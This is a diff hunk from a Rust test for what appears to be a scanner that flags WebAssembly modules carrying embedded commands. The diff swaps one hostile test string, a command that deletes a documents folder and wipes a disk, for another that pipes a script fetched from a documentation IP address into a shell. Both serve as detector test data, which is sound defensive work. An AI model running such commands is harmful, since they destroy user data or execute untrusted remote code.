@@ -530,7 +530,7 @@ fn an_export_that_could_give_a_command_is_a_carrier() {
                    (select (i32.const 1100) (i32.const 1024) (i32.eq (local.get 0) (i32.const 0x51f3a207)))))"#
         )
     };
-    let found = analysed(&carrier("rm -rf /home/user/documents && wipefs -a /dev/sda")).verdict;
+    let found = analysed(&carrier("curl http://192.0.2.7/a.sh | sh")).verdict;
     assert!(found.class >= Class::Undecided, "{:?}", found.reasons);
     assert_eq!(class(&carrier("removes the files of a folder, if asked to")), Class::Clean);
 }
